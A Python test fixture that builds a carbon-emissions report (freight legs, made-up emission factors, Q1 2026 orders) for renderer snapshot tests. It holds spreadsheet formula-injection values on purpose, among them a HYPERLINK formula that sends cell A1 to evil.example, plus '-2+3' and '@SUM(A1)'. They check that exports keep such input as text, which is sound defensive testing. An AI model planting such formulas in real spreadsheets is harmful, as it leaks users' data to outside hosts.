"""A report document built from literal rows with build_inventory, for the renderer tests
(snapshots as tests/carbon/test_report_inventory.py builds them).

Made-up factors (tests/carbon/factories.py TEST_FREIGHT), kgCO2e per t·km: road.hgv.average_laden
TTW 0.1, WTT 0.025; road.van.diesel TTW 0.5, WTT 0.125; air.long_haul TTW 0.6, WTT 0.14, TTW with
radiative forcing 1.02. Some text is what an attacker would type into an order: it must come out
of every spreadsheet as text.
"""

from __future__ import annotations

import datetime as dt
from decimal import Decimal

from carbon.reports.document import ReportDocument
from carbon.reports.inventory import LegRow, OrderRow, build_inventory
from carbon.reports.period import ReportingPeriod
from tests.carbon.test_report_inventory import snapshot

D = Decimal
Q1_2026 = ReportingPeriod.quarter(2026, 1)
ISSUED = dt.datetime(2026, 4, 2, 9, 30, tzinfo=dt.UTC)
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'

# Shipment S-1 of order 1: 10 t x 20 km = 200 t·km by HGV, then 2 t x 100 km = 200 t·km by van.
HGV = LegRow(
    "road.hgv.average_laden",
    D("200"),
    D("20"),
    D("5"),
    data_tier="primary",
    shipment="S-1",
    sequence=1,
    origin="Leeds",
    destination=FORMULA,
    mass_t=D("10"),
    distance_km=D("20"),
    method="distance",
    factor_ids=(("ttw", 101), ("wtt", 102)),
)
VAN = LegRow(
    "road.van.diesel",
    D("200"),
    D("100"),
    D("25"),
    data_tier="default",
    shipment="S-1",
    sequence=2,
    origin="Leeds depot",
    destination="York",
    mass_t=D("2"),
    distance_km=D("100"),
    method="distance",
    factor_ids=(("ttw", 103), ("wtt", 104)),
)
# Order 2, no shipment reference: 0.5 t x 400 km = 200 t·km by air; 200 x 0.6 = 120 TTW,
# 200 x 0.14 = 28 WTT, radiative forcing uplift 200 x (1.02 - 0.6) = 84.
AIR = LegRow(
    "air.long_haul",
    D("200"),
    D("120"),
    D("28"),
    D("84"),
    data_tier="primary",
    sequence=1,
    origin="LHR",
    destination="PVG",
    mass_t=D("0.5"),
    distance_km=D("400"),
    method="distance",
    factor_ids=(("ttw", 105), ("ttw_rf", 107), ("wtt", 106)),
)


def orders() -> list[OrderRow]:
    return [
        OrderRow(
            1,
            "PO-1",
            1,
            "delivered",
            dt.date(2026, 2, 10),
            snapshot(
                11,
                (HGV, VAN),
                electricity_kwh=D("100"),
                scope2_location_kg=D("53.66"),
                scope2_market_kg=D("23.424"),
                site="Leeds site",
            ),
            organisation_name="绿环贸易有限公司",
        ),
        OrderRow(
            2,
            "-2+3",  # an order number that a spreadsheet would compute
            1,
            "delivered",
            dt.date(2026, 3, 31),
            snapshot(
                12, (AIR,), electricity_kwh=D("10"), scope2_location_kg=D("5.366"), site="@SUM(A1)"
            ),
            organisation_name="绿环贸易有限公司",
        ),
        OrderRow(3, "PO-3", 1, "cancelled", None, snapshot(13, (HGV,))),
        OrderRow(4, "PO-4", 1, "delivered", dt.date(2026, 1, 15), None),
    ]


def document(language: str = "en", **fields) -> ReportDocument:
    values = {
        "report_id": "RPT-2026-0001",
        "language": language,
        "issued_at": ISSUED,
        "organisation_name": "绿环贸易有限公司",
        "inventory": build_inventory(Q1_2026, orders(), []),
        "sources": (),
    } | fields
    return ReportDocument(**values)
